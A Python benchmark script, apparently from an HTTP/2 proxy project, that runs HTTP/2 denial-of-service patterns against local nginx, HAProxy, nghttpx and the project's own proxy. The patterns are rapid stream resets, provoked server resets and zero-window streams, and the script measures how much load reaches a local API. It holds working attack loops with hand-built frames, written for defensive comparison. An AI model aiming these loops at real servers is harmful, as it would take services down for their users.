#!/usr/bin/python3
"""Abuse of HTTP/2, beside nginx, HAProxy and nghttpx: each proxy may have 100 requests in the API. One row after the other,
each against a fresh proxy on core 0; API and clients are on core 1.

  rapid_reset     requests that the client resets at once, for 3 s: the most requests inside the API, which works on each
                  for 300 ms and does not notice that a client has left
  made_you_reset  requests that the client makes the proxy reset: DATA after the end of each
  shut_windows    100 streams that never open their window, beside a good client: its failures in 5 s, and the 99th
                  percentile of its times over that of 5 s before

  PROXIES=spillway,nginx,haproxy,nghttpx ROWS=rapid_reset,made_you_reset,shut_windows ROUNDS=1"""
import asyncio
import contextlib
import json
import os
import pathlib
import select
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

import hpack

ROOT = pathlib.Path(__file__).resolve().parents[2]
CAP = 100
ATTACK_SECONDS = 3
GOOD_SECONDS = 5
GOOD_CLIENTS = 4
GOOD_PATIENCE = 2  # seconds; a later answer is a failure
SHUT_STREAMS = 100
BATCH = 50  # requests in one write: fewer than the streams that every proxy allows at a time
SLOW_SECONDS = 0.3
REACHED_SECONDS = 0.01  # a request needs less to reach the API
FAST_SECONDS = 0.02
PROXY_CORE, LOAD_CORE = 0, 1

CONFIGS = {
    "spillway": """
listen: {{address: "127.0.0.1:{port}", http2: true}}
admin: {{listen: "127.0.0.1:{admin}"}}
upstream: {{address: "127.0.0.1:{api}", health: {{mode: tcp}}}}
admission: {{max_concurrent: {cap}, shed_at: 1}}
log: {{access: off}}
""",
    "nginx": """
user root;
worker_processes 1;
daemon off;
pid {dir}/nginx.pid;
error_log {dir}/nginx.log crit;
events {{ worker_connections 10000; }}
http {{
  access_log off;
  keepalive_requests 1000000000;
  client_body_temp_path {dir}/body; proxy_temp_path {dir}/proxy; fastcgi_temp_path {dir}/fastcgi;
  uwsgi_temp_path {dir}/uwsgi; scgi_temp_path {dir}/scgi;
  upstream api {{ server 127.0.0.1:{api} max_conns={cap}; keepalive {cap}; keepalive_requests 1000000000; }}
  server {{
    listen 127.0.0.1:{port} http2;
    location / {{ proxy_pass http://api; proxy_http_version 1.1; proxy_set_header Connection ""; }}
  }}
}}
""",
    "haproxy": """
global
  nbthread 1
  maxconn 5000
defaults
  mode http
  timeout connect 1s
  timeout client 60s
  timeout server 30s
  timeout queue 1s
  http-reuse always
frontend traffic
  bind 127.0.0.1:{port} proto h2
  default_backend api
backend api
  server api 127.0.0.1:{api} maxconn {cap}
""",
    "nghttpx": """
frontend=127.0.0.1,{port};no-tls
backend=127.0.0.1,{api}
backend-connections-per-frontend={cap}
workers=1
single-process=yes
errorlog-file={dir}/nghttpx.log
""",
}
COMMANDS = {
    "spillway": [ROOT / "build/release/proxy/spillway", "--config"],
    "nginx": ["nginx", "-e", "/dev/null", "-c"],
    "haproxy": ["haproxy", "-db", "-f"],
    "nghttpx": ["nghttpx", "--conf"],
}

# --- The API ---------------------------------------------------------------------------------------------------------


async def serve_api(port):
    inside = most = 0

    async def serve(reader, writer):
        nonlocal inside, most
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            while head := await reader.readuntil(b"\r\n\r\n"):
                path = head.split(b" ", 2)[1]
                body = b"x" * (100_000 if path == b"/big" else 1000)
                if path == b"/_most":
                    body, most = str(most).encode(), inside
                else:
                    inside += 1
                    most = max(most, inside)
                    await asyncio.sleep(SLOW_SECONDS if path == b"/slow" else FAST_SECONDS)
                    inside -= 1
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", port, backlog=4096)
    await server.serve_forever()


# --- Clients ---------------------------------------------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(stream, path):
    """A GET, without the table of HPACK."""
    block = b"\x82\x86\x41\x04test" + (b"\x84" if path == "/" else b"\x04%c%s" % (len(path), path.encode()))
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


class Client:
    def __init__(self, port, window=65_535):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=GOOD_PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        self.buffer = b""
        self.table = hpack.Decoder()
        self.stream = 1
        self.goaway = None

    def close(self):
        self.socket.close()

    def take_frame(self):
        """The next frame that has come, or None."""
        if len(self.buffer) < 9:
            return None
        length = int.from_bytes(self.buffer[:3], "big")
        if len(self.buffer) < 9 + length:
            return None
        kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
        payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
        if kind == SETTINGS and not flags & ACK:
            self.socket.sendall(frame(SETTINGS, ACK, 0))
        if kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))
        if kind == GOAWAY:
            self.goaway = struct.unpack(">II", payload[:8])[1]
        return kind, flags, stream, payload

    def receive(self):
        """Takes what comes within the patience. False: the connection has ended."""
        data = self.socket.recv(65536)
        self.buffer += data
        return bool(data)

    def get(self, path):
        """The status; 0: failed."""
        stream, self.stream = self.stream, self.stream + 2
        status = 0
        self.socket.sendall(request(stream, path))
        while True:
            while next_frame := self.take_frame():
                kind, flags, of, payload = next_frame
                if kind == HEADERS:
                    fields = dict(self.table.decode(payload))
                    status = int(fields[":status"]) if of == stream else status
                if kind == DATA and payload:
                    self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
                if kind == RST_STREAM and of == stream or kind == GOAWAY:
                    return 0
                if kind in (DATA, HEADERS) and flags & END_STREAM and of == stream:
                    return status
            if not self.receive():
                return 0


def attack(port, leave):
    """Requests, each followed by `leave(stream)` when it has reached the API, again and again, on one connection after the
    other. Returns how many, and the GOAWAYs."""
    end = time.monotonic() + ATTACK_SECONDS
    sent, goaways = 0, {}
    while time.monotonic() < end:
        client = Client(port)
        with contextlib.suppress(OSError):
            while time.monotonic() < end and client.goaway is None:
                streams = range(client.stream, client.stream + 2 * BATCH, 2)
                client.socket.sendall(b"".join(request(stream, "/slow") for stream in streams))
                time.sleep(REACHED_SECONDS)
                client.socket.sendall(b"".join(leave(stream) for stream in streams))
                client.stream += 2 * BATCH
                sent += BATCH
                while select.select([client.socket], [], [], 0.002)[0] and client.receive():
                    while client.take_frame():
                        pass
        with contextlib.suppress(OSError):
            while client.goaway is None and select.select([client.socket], [], [], 0.1)[0] and client.receive():
                while client.take_frame():
                    pass
        goaways[client.goaway] = goaways.get(client.goaway, 0) + 1
        client.close()
    return sent, goaways


def be_good(port):
    """Clients that ask one request after the other. Returns how many failed, and the times of the others in ms."""
    end = time.monotonic() + GOOD_SECONDS
    failed, times = [], []

    def run():
        client = Client(port)
        while (began := time.monotonic()) < end:
            try:
                status = client.get("/")
            except OSError:
                status = 0
            if status == 200:
                times.append(1000 * (time.monotonic() - began))
                continue
            failed.append(status)
            client.close()
            client = Client(port)
        client.close()

    clients = [threading.Thread(target=run) for _ in range(GOOD_CLIENTS)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    return len(failed), times


def p99(times):
    return statistics.quantiles(times, n=100)[98] if len(times) > 1 else float("inf")


# --- Rows ------------------------------------------------------------------------------------------------------------


def most_inside(api):
    with urllib.request.urlopen(f"http://127.0.0.1:{api}/_most") as answer:
        return int(answer.read())


def measure_attack(port, api, leave):
    most_inside(api)
    sent, goaways = attack(port, leave)
    return {"requests": sent, "most_inside": most_inside(api),
            "goaway": {str(code): count for code, count in goaways.items()}}


def measure_shut_windows(port, _):
    _, quiet = be_good(port)
    shut = Client(port, window=0)
    shut.socket.sendall(b"".join(request(1 + 2 * i, "/big") for i in range(SHUT_STREAMS)))
    time.sleep(0.5)  # the API has answered them
    failed, times = be_good(port)
    shut.close()
    return {"failures": failed, "p99_ms": round(p99(times), 1), "quiet_p99_ms": round(p99(quiet), 1),
            "to_quiet": round(p99(times) / p99(quiet), 2)}


MEASURES = {
    "rapid_reset": lambda port, api: measure_attack(
        port, api, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8))),
    "made_you_reset": lambda port, api: measure_attack(port, api, lambda stream: frame(DATA, END_STREAM, stream, b"x")),
    "shut_windows": measure_shut_windows,
}


def free_port():
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return listener.getsockname()[1]


def await_port(port):
    for _ in range(100):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)):
            return
        time.sleep(0.1)
    sys.exit(f"make abuse: nobody listens on port {port}")


def start(command, core):
    return subprocess.Popen(["taskset", "-c", str(core), *command], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def measure(proxy, row):
    with tempfile.TemporaryDirectory() as folder:
        port, admin, api = free_port(), free_port(), free_port()
        config = pathlib.Path(folder) / "config"
        config.write_text(CONFIGS[proxy].format(port=port, admin=admin, api=api, cap=CAP, dir=folder), encoding="utf-8")
        running = [start([sys.executable, __file__, "api", str(api)], LOAD_CORE)]
        try:
            await_port(api)
            command = COMMANDS[proxy]
            running.append(start([*command[:-1], f"{command[-1]}={config}"] if proxy == "nghttpx" else [*command, config],
                                 PROXY_CORE))
            await_port(port)
            return MEASURES[row](port, api)
        finally:
            for process in reversed(running):
                process.terminate()
                process.wait()


def main():
    os.environ["PATH"] += ":/usr/sbin"
    os.sched_setaffinity(0, {LOAD_CORE})
    proxies = os.environ.get("PROXIES", ",".join(CONFIGS)).split(",")
    rows = os.environ.get("ROWS", ",".join(MEASURES)).split(",")
    results = []
    for number in range(1, int(os.environ.get("ROUNDS", "1")) + 1):
        for row in rows:
            for proxy in proxies:
                result = measure(proxy, row)
                results.append({"row": row, "proxy": proxy, "round": number, **result})
                print(f"{row:<15} {proxy:<9}", ", ".join(f"{name} {value}" for name, value in result.items()), flush=True)
    report = ROOT / "build/reports/abuse.json"
    report.parent.mkdir(parents=True, exist_ok=True)
    report.write_text(json.dumps(results, indent=1) + "\n", encoding="utf-8")
    print(f"report in {report.relative_to(ROOT)}")


if __name__ == "__main__":
    if sys.argv[1:2] == ["api"]:
        asyncio.run(serve_api(int(sys.argv[2])))
    else:
        main()
